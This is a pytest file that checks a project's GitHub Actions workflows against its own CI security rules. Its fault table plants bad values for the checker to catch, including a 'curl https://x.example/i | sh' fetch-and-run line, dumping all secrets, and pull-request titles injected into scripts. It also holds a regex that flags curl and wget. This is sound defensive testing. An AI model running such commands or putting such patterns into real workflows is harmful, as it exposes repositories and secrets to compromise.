"""Workflows keep to GitHub's schemas, to actionlint and zizmor, and to the rules that docs/threat-model.md rests on."""

import re
import subprocess
import sys
import tomllib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from packaging.requirements import Requirement
from ruamel.yaml import YAML

TRUSTED_REFS = {"main", "${{ github.sha }}"}
"""What may stand at the root of a workspace in a job that works for a pull request with main's rights."""

PROPER = """\
name: Proper
on:
  # Main's tools decide.
  pull_request_target: # zizmor: ignore[dangerous-triggers]
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions:
      contents: write
    environment: snowflake-prod
    concurrency:
      group: prod
      cancel-in-progress: false
      queue: max
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          ref: ${{ github.sha }}
          persist-credentials: false
      - uses: $/.github/actions/setup
        with:
          locks: snowflake
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          ref: refs/pull/${{ github.event.number }}/merge
          path: change
          persist-credentials: false
      - run: .venv/bin/meshflow ci deploy --sha "$SHA"
        env:
          SHA: ${{ github.event.pull_request.head.sha }}
          MESHFLOW_STATE_PASSWORD: ${{ secrets.MESHFLOW_STATE_PASSWORD }}
"""

FAULTS = {
    "permissions for every job": ("permissions: {}\njobs", "permissions: read-all\njobs", "top level: permissions"),
    "no permissions at the top": ("permissions: {}\njobs", "jobs", "top level: permissions"),
    "a job without permissions": ("    permissions:\n      contents: write\n", "", "deploy: no permissions"),
    "a job with all permissions": ("permissions:\n      contents: write", "permissions: write-all", "deploy: no perm"),
    "a job without a limit of time": ("    timeout-minutes: 5\n", "", "deploy: no timeout-minutes"),
    "an action by its tag": ("3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "v7", "not pinned: actions/checkout"),
    "a pin without its version": (" # v7.0.1", "", "not pinned: actions/checkout@3d3c42e5"),
    "an action of a change": ("$/.github", "./change/.github", "not pinned: ./change"),
    "a checkout that keeps the token": ("persist-credentials: false", "fetch-depth: 1", "deploy: checkout keeps"),
    "a change in the place of main's tools": ("          path: change\n", "", "deploy: refs/pull/"),
    "a head instead of main's tools": ("${{ github.sha }}", "${{ github.head_ref }}", "deploy: ${{ github.head_ref }}"),
    "a title in a script": ('"$SHA"', '"${{ github.event.pull_request.title }}"', "deploy: expression in a script"),
    "a branch name in a script": ('"$SHA"', "${{ github.head_ref }}", "deploy: expression in a script"),
    "a secret in a script": ('"$SHA"', '"${{ secrets.TOKEN }}"', "deploy: expression in a script"),
    "a secret for a whole job": ("    steps:", "    env: {T: '${{ secrets.TOKEN }}'}\n    steps:", "outside of a step"),
    "a secret for an action": ("locks: snowflake", "locks: ${{ secrets['TOKEN'] }}", "outside of a step"),
    "all secrets at once": ("${{ secrets.MESHFLOW_STATE_PASSWORD }}", "${{ toJSON(secrets) }}", "all secrets"),
    "secrets of the whole repository": ("    environment: snowflake-prod\n", "", "deploy: secrets without"),
    "secrets of another environment": ("snowflake-prod", "production", "deploy: secrets without"),
    "prod changed by two at once": ("group: prod", "group: ${{ github.ref }}", "deploy: changes prod outside"),
    "prod left half-way": ("cancel-in-progress: false", "cancel-in-progress: true", "deploy: changes prod outside"),
    "a deploy that a run throws out": ("      queue: max\n", "", "deploy: changes prod outside"),
    "an installation without hashes": ("meshflow ci deploy", "pip install sqlmesh", "deploy: installs"),
    "an installation of a script": (".venv/bin/meshflow ci", "curl https://x.example/i | sh", "deploy: installs"),
    "the setup of a change": (".venv/bin/meshflow ci", "make -C change dev ;", "deploy: runs make or pip"),
    "an exception without its reason": ("  # Main's tools decide.\n", "", "unexplained: pull_request_target"),
    "secrets where forks are built": ("pull_request_target: #", "pull_request: #", "deploy: secrets for a fork"),
    "rights where forks are built": ("pull_request_target: #", "pull_request: #", "deploy: writes for a fork"),
}  # fmt: skip


def strings(node: object, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], str]]:
    """Every text in a YAML document, with the keys that lead to it; a place in a list is `*`."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield from strings(value, (*path, str(key)))
    elif isinstance(node, list):
        for value in node:
            yield from strings(value, (*path, "*"))
    elif isinstance(node, str):
        yield path, node


def complaints(text: str) -> Iterator[str]:
    """What breaks the project's own rules in the text of a workflow."""
    workflow = YAML(typ="safe").load(text)
    if workflow.get("permissions") != {}:
        yield "top level: permissions aren't {}"
    yield from unpinned(text)
    yield from unexplained(text)
    for path, value in strings(workflow):
        if re.search(r"\bsecrets\b", value) and "${{" in value:
            if not re.search(r"secrets\.\w+", value):
                yield f"all secrets at once: {value}"
            if not (path[0] == "jobs" and path[2:5] == ("steps", "*", "env")):
                yield f"a secret outside of a step's env: {'.'.join(path)}"
    for name, job in workflow["jobs"].items():
        for complaint in job_complaints(set(workflow["on"]), job):
            yield f"{name}: {complaint}"


def job_complaints(events: set[str], job: dict[str, Any]) -> Iterator[str]:
    if not isinstance(job.get("permissions"), dict):
        yield "no permissions of its own, one by one"
    if "timeout-minutes" not in job:
        yield "no timeout-minutes"

    secrets = {name for _, value in strings(job) for name in re.findall(r"secrets\.(\w+)", value)}
    environment = job.get("environment")
    if secrets and environment not in {"snowflake-ci", "snowflake-prod"}:
        yield "secrets without an environment that is main's alone"
    if "pull_request" in events and secrets:
        yield "secrets for a fork"
    if "pull_request" in events and "write" in (job.get("permissions") or {}).values():
        yield "writes for a fork"

    concurrency = {"group": "prod", "cancel-in-progress": False, "queue": "max"}
    if (
        environment == "snowflake-prod"
        and "MESHFLOW_STATE_PASSWORD" in secrets
        and job.get("concurrency") != concurrency
    ):
        yield "changes prod outside of the queue"

    for step in job["steps"]:
        yield from step_complaints(events, step)


def step_complaints(events: set[str], step: dict[str, Any]) -> Iterator[str]:
    script, options = step.get("run", ""), step.get("with", {})
    if "${{" in script + options.get("script", ""):
        yield "expression in a script, where a title could be code"
    if re.search(r"\b(pip3?|pipx|uvx?|npm|npx|apt-get|apt)\s+(install|pip|tool|run|add)\b|\b(curl|wget)\b", script):
        yield "installs what no lock pins"
    if re.search(r"\b(make|pip)\b.*\bchange\b|\bcd change\b", script):
        yield "runs make or pip in the change"
    if step.get("uses", "").startswith("actions/checkout@"):
        if options.get("persist-credentials") is not False:
            yield "checkout keeps the token"
        ref = options.get("ref", "")
        privileged = events & {"pull_request_target", "issue_comment", "workflow_run"}
        if privileged and ref not in TRUSTED_REFS and options.get("path") != "change":
            yield f"{ref} where main's tools belong"


def unpinned(text: str) -> Iterator[str]:
    for used in re.findall(r"^\s*(?:- )?uses: *(.*)$", text, re.MULTILINE):
        if not re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+|[.$]/\.github/actions/[\w-]+", used):
            yield f"not pinned: {used}"


def unexplained(text: str) -> Iterator[str]:
    """Exceptions from a checker without a line of comment above them."""
    lines = text.splitlines()
    for above, line in zip(["", *lines], lines, strict=False):
        if re.search(r"#\s*(zizmor: ignore|shellcheck disable|pragma: allowlist)", line) and not re.match(
            r"\s*# \w", above
        ):
            yield f"unexplained: {line.strip()}"


@pytest.fixture(scope="session")
def workflows(project: Path) -> list[Path]:
    found = sorted((project / ".github/workflows").glob("*.y*ml"))
    assert {file.stem for file in found} >= {"ci", "pr-environment", "pr-close", "deploy", "run", "weekly"}
    return found


def test_every_workflow_keeps_the_rules(workflows: list[Path]) -> None:
    found = [f"{file.name}: {it}" for file in workflows for it in complaints(file.read_text(encoding="utf-8"))]
    assert found == []


def test_what_keeps_the_rules_passes() -> None:
    assert list(complaints(PROPER)) == []


@pytest.mark.parametrize("fault", FAULTS)
def test_a_workflow_is_caught_with(fault: str) -> None:
    old, new, complaint = FAULTS[fault]
    assert old in PROPER
    assert any(complaint in it for it in complaints(PROPER.replace(old, new)))


def test_actions_of_the_project_are_pinned_and_take_no_secret(project: Path) -> None:
    actions = list((project / ".github/actions").glob("*/action.yml"))
    assert actions
    for file in actions:
        text = file.read_text(encoding="utf-8")
        assert list(unpinned(text)) == []
        assert "secrets" not in text
        for step in YAML(typ="safe").load(text)["runs"]["steps"]:
            assert list(step_complaints(set(), step)) == []


def test_make_installs_only_what_a_lock_has_hashed(project: Path) -> None:
    rules = re.findall(r"^(\S*\.venv\S+): (.*)\n\t(.*)$", (project / "Makefile").read_text(), re.MULTILINE)
    assert [command for *_, command in rules] == ["@$(PYTHON) requirements/install $@ $<"] * 2
    assert all(needs.startswith("requirements/%.lock ") for _, needs, _ in rules)
    assert "pip install" not in (project / "Makefile").read_text()
    script = (project / "requirements/install").read_text()
    installs = [line for line in script.splitlines() if line.lstrip().startswith(("_run(*uv", "_run(*pip"))]
    assert len(installs) == 4
    for line in installs:
        assert '"--require-hashes"' in line or '"--no-deps", "--no-build-isolation", "--editable", "."' in line


def test_a_prod_job_s_secrets_are_never_those_of_pull_requests(workflows: list[Path]) -> None:
    """A pull request's environment signs in as CI; nothing triggered by one, but the gated deploy, as TRANSFORMER."""
    for file in workflows:
        workflow = YAML(typ="safe").load(file.read_text(encoding="utf-8"))
        for name, job in workflow["jobs"].items():
            user = job.get("env", {}).get("MESHFLOW_SNOWFLAKE_USER")
            expected = {"snowflake-ci": {"CI"}, "snowflake-prod": {"TRANSFORMER", None}}
            assert user in expected.get(job.get("environment"), {None}), f"{file.name}: {name}"
            if "pull_request_target" in workflow["on"]:
                assert job.get("environment") != "snowflake-prod", f"{file.name}: {name}"


def check(name: str, *arguments: str | Path) -> subprocess.CompletedProcess[str]:
    command = [str(Path(sys.prefix, "bin", name)), *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, check=False)


def actionlint(file: Path) -> subprocess.CompletedProcess[str]:
    return check("actionlint", file)


def zizmor(file: Path) -> subprocess.CompletedProcess[str]:
    return check("zizmor", "--offline", "--pedantic", "--strict-collection", "--no-progress", file)


def schema(file: Path) -> subprocess.CompletedProcess[str]:
    return check("check-jsonschema", "--builtin-schema", "vendor.github-workflows", file)


@pytest.mark.parametrize(
    ("checker", "old", "new"),
    [
        (actionlint, '"$SHA"', '"${{ steps.nowhere.outputs.sha }}"'),
        (zizmor, "persist-credentials: false", "fetch-depth: 1"),
        (schema, "timeout-minutes: 5", "timeout-minutes: soon"),
    ],
)
def test_checkers_pass_every_workflow_and_catch_a_fault(
    checker: Callable[[Path], subprocess.CompletedProcess[str]],
    old: str, new: str, workflows: list[Path], tmp_path: Path,
) -> None:  # fmt: skip
    for file in workflows:
        checked = checker(file)
        assert checked.returncode == 0, checked.stdout + checked.stderr

    text = workflows[[file.stem for file in workflows].index("deploy")].read_text(encoding="utf-8")
    text = re.sub(r"timeout-minutes: \d+", "timeout-minutes: 5", text)
    assert old in text
    planted = tmp_path / ".github/workflows/deploy.yml"
    planted.parent.mkdir(parents=True)
    planted.write_text(text.replace(old, new, 1), encoding="utf-8")
    assert checker(planted).returncode != 0


@pytest.mark.parametrize(
    ("name", "pattern", "required"),
    [
        ("dependabot", "dependabot.yml", "version: 2"),
        ("github-issue-forms", "ISSUE_TEMPLATE/[!c]*.yml", "body:"),
        ("github-issue-config", "ISSUE_TEMPLATE/config.yml", "blank_issues_enabled: true"),
        ("github-actions", "actions/*/action.yml", "runs:"),
    ],
)
def test_other_files_keep_their_schema(name: str, pattern: str, required: str, project: Path, tmp_path: Path) -> None:
    files = list((project / ".github").glob(pattern))
    checked = check("check-jsonschema", "--builtin-schema", f"vendor.{name}", *files)
    assert checked.returncode == 0, checked.stdout

    text = files[0].read_text(encoding="utf-8")
    assert required in text
    planted = tmp_path / files[0].name
    planted.write_text(text.replace(required, f"planted_{required}"), encoding="utf-8")
    assert check("check-jsonschema", "--builtin-schema", f"vendor.{name}", planted).returncode == 1


def bounds(text: str) -> Iterator[Requirement]:
    """What a pyproject.toml asks for itself, in whichever list."""
    project = tomllib.loads(text)
    lists = [
        project["project"]["dependencies"],
        *project["project"]["optional-dependencies"].values(),
        *project["dependency-groups"].values(),
    ]
    for requirement in (entry for entries in lists for entry in entries if isinstance(entry, str)):
        yield Requirement(requirement)


def outside(text: str, locks: list[str]) -> list[str]:
    """Requirements of a pyproject.toml that a lock's version doesn't meet."""
    wrong = []
    for requirement in bounds(text):
        pattern = re.compile(rf"^{re.escape(requirement.name)}(?:\[[\w,]+\])?==([\w.]+)", re.MULTILINE | re.IGNORECASE)
        versions = {version for lock in locks for version in pattern.findall(lock)}
        assert versions, requirement
        wrong += [f"{requirement}: {version}" for version in versions if version not in requirement.specifier]
    return wrong


def test_a_bound_that_dependabot_raises_is_red_until_the_locks_follow(project: Path) -> None:
    text = (project / "pyproject.toml").read_text(encoding="utf-8")
    # The emulator's environment is another one, by other bounds.
    locks = [file.read_text() for file in (project / "requirements").glob("*.lock") if file.stem != "emulator"]
    assert outside(text, locks) == []
    raised = text.replace('"sqlmesh==0.236.4"', '"sqlmesh==0.999.0"').replace("ruff>=0.14", "ruff>=99")
    assert {it.split(":")[0] for it in outside(raised, locks)} == {"sqlmesh==0.999.0", "ruff>=99"}


def test_dependabot_leaves_sqlmesh_and_sqlglot_to_a_pull_request_of_their_own(project: Path) -> None:
    updates = YAML(typ="safe").load((project / ".github/dependabot.yml").read_text(encoding="utf-8"))["updates"]
    (python,) = (update for update in updates if update["package-ecosystem"] == "uv")
    groups = python["groups"]
    assert groups["sqlmesh"]["patterns"] == ["sqlmesh*", "sqlglot*"]
    assert all(group["exclude-patterns"] == ["sqlmesh*", "sqlglot*"] for n, group in groups.items() if n != "sqlmesh")
    assert all(update["cooldown"]["default-days"] >= 7 for update in updates)


def test_the_runbook_sets_every_secret_and_variable_that_a_workflow_asks_for(
    project: Path, workflows: list[Path]
) -> None:
    page = (project / "docs/runbooks/github.md").read_text(encoding="utf-8")
    asked = {
        name
        for file in workflows
        for name in re.findall(r"\b(?:secrets|vars)\.(\w+)", file.read_text(encoding="utf-8"))
    }
    assert asked
    assert {name for name in asked if f"`{name}`" not in page} == set()


def test_code_owners_are_named_for_paths_that_exist(project: Path) -> None:
    lines = (project / ".github/CODEOWNERS").read_text(encoding="utf-8").splitlines()
    paths = [line.split()[0] for line in lines if line and not line.startswith("#")]
    assert paths[0] == "*"
    assert [path for path in paths[1:] if not (project / path.lstrip("/")).exists()] == []
